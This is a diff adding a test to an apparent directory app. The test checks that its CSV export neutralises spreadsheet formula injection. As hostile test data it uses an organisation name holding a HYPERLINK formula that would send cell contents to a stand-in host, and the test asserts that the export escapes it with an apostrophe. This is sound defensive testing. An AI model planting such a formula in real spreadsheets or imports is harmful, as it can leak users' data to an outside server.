@@ -1,4 +1,5 @@
 import csv
+import io
 import json
 import uuid
 
@@ -189,3 +190,43 @@ def test_round_trip_keeps_a_directory_loaded_by_csv(session_factory, session, ge
     run_export(session_factory, tmp_path / "second")
     for path in (tmp_path / "first").iterdir():
         assert path.read_bytes() == (tmp_path / "second" / path.name).read_bytes(), path.name
+
+
+def test_a_hostile_organisation_name_cannot_run_as_a_formula_in_the_export(
+    session_factory, geocoder, areas, tmp_path
+):
+    hostile = '=HYPERLINK("http://x/?d="&A1,"Click")'
+    rows = [
+        {
+            "external_id": "csv:hostile",
+            "name": hostile,
+            "kind": "hub",
+            "area": "sutton",
+            "services": "shopping",
+            "coverage_outcodes": "SM1",
+            "base_postcode": "SM1 1EA",
+            "public_contact": "@everyone +44 7700 900123",
+        }
+    ]
+    with session_factory() as session:
+        report = import_organisations_csv(
+            session, write_csv(tmp_path / "organisations.csv", rows), geocoder=geocoder, areas=areas
+        )
+    assert report.created == 1, report.summary()
+
+    run_export(session_factory, tmp_path / "export")
+
+    _, organizations = read_table(tmp_path / "export" / "organizations.csv")
+    assert [row["name"] for row in organizations] == ["'" + hostile]
+    every_cell = [
+        cell
+        for path in (tmp_path / "export").glob("*.csv")
+        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline=""))
+        for cell in row
+    ]
+    assert "'@everyone +44 7700 900123" in every_cell
+    formulas = [cell for cell in every_cell if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    _, locations = read_table(tmp_path / "export" / "locations.csv")
+    longitude = locations[0]["longitude"]
+    assert float(longitude) < 0, "a number (Sutton's longitude) stays a number"
+    assert sorted(formulas) == ["+447700900123", longitude], "only numbers start so: a phone, a longitude"
